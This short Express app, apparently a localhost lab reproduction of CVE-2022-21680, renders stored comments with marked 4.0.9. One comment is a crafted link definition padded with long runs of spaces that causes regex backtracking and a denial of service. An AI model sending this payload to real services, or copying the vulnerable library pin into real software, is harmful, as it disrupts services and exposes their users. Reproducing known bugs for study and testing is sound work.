// Comments rendered from Markdown with marked 4.0.9; one stored comment is crafted
// (CVE-2022-21680: the link-definition regex backtracks on runs of spaces).
'use strict';
const express = require('express');
const { marked } = require('marked');

const comments = [
  'Nice **post**, see [the docs](https://example.com/docs).',
  `[x]:${' '.repeat(550)}x ${' '.repeat(550)} x`,
];

const app = express();
app.get('/health', (req, res) => res.send('ok'));

app.get('/x', (req, res) => {
  const html = comments.map((c) => marked.parse(c)).join('\n');
  res.type('html').send(html);
});

app.listen(Number(process.env.PORT) || 0, '127.0.0.1');
